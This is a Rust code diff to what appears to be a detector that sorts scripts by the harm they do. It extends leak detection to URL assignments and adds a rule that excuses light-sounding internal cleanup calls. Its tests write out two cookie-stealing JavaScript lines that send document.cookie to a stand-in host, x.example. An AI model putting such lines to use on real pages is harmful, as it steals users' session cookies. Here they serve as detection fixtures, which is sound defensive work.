@@ -51,6 +51,9 @@ pub fn is_script(text: &str) -> bool {
                 || l.starts_with("const ") && l.contains('=')
         })
         || first_call(head)
+        || head.starts_with("fetch(")
+        || head.starts_with("(()")
+        || text.contains("document.") && text.contains('(')
 }
 
 /// `os.remove("x")`, `shutil.rmtree(p)`: a dotted name and a parenthesis.
@@ -183,6 +186,17 @@ fn name_before(text: &str, at: usize) -> &str {
         start -= 1;
     }
     text[start..at].trim_start_matches('.')
+}
+
+/// Leaves out calls of the house's own functions that end something of little
+/// worth (`purge_test_users()`), where it is not done to what others rely on.
+pub fn forgive(deeds: &mut Vec<Deed>, from: usize) {
+    let mut at = 0;
+    deeds.retain(|d| {
+        at += 1;
+        let own = at > from && d.does.starts_with(OWN);
+        !own || !crate::words::Words::of(&d.does).all().any(Senses::LIGHT)
+    });
 }
 
 /// What a script does by itself, and the texts it hands to a shell.
@@ -341,7 +355,7 @@ fn one(call: &Call, last: &str, text: &str, shells: &mut Vec<String>, deeds: &mu
             deeds.push(Deed::new(
                 Sort::Destroy,
                 0.7,
-                &["runs `", name, "`"],
+                &[OWN, name, "`"],
                 name,
                 ENDING.and(Senses::EXEC),
             ));
@@ -350,10 +364,13 @@ fn one(call: &Call, last: &str, text: &str, shells: &mut Vec<String>, deeds: &mu
     }
 }
 
+/// How a call of a function of the house's own is told.
+const OWN: &str = "runs `";
+
 /// A function of the house's own that says it ends something: `purge_users()`.
 fn ends_by_name(name: &str) -> bool {
     let words = crate::words::Words::of(name);
-    words.len() >= 2 && words.senses(0).any(Senses::DELETE) && !words.all().any(Senses::LIGHT)
+    words.len() >= 2 && words.senses(0).any(Senses::DELETE)
 }
 
 /// Methods of cloud libraries: `s3.delete_bucket(Bucket="x")`.
@@ -540,7 +557,16 @@ fn leaks(text: &str, calls: &[Call], deeds: &mut Vec<Deed>) {
             ) && carries(&c.inside)
             || last == "sendmail"
     });
-    let Some(out) = out else { return };
+    // `new Image().src = 'https://…' + document.cookie` sends without a call.
+    let set = [".src", "location", ".href", ".action"]
+        .iter()
+        .any(|p| text.contains(p))
+        && carries(text);
+    let texts = match out {
+        Some(out) => out.texts.clone(),
+        None if set => literals(text),
+        None => return,
+    };
     let whole_environment = text.contains("dict(os.environ)")
         || text.contains("process.env)")
         || text.contains("json.dumps(os.environ")
@@ -570,8 +596,7 @@ fn leaks(text: &str, calls: &[Call], deeds: &mut Vec<Deed>) {
         (None, _, Some(page)) => page,
         _ => return,
     };
-    let host = out
-        .texts
+    let host = texts
         .iter()
         .find_map(|t| crate::target::url_host(t))
         .unwrap_or("the network");
@@ -654,6 +679,14 @@ mod tests {
             ("iam.create_access_key(UserName='ops')", Sort::Access),
             ("ct.stop_logging(Name='org')", Sort::Guard),
             ("db.session.drop_all()", Sort::Destroy),
+            (
+                "fetch('https://x.example/c?k='+encodeURIComponent(document.cookie))",
+                Sort::Leak,
+            ),
+            (
+                "new Image().src='https://x.example/?c='+document.cookie",
+                Sort::Leak,
+            ),
         ] {
             assert_eq!(sorts(text), [sort], "{text}");
         }
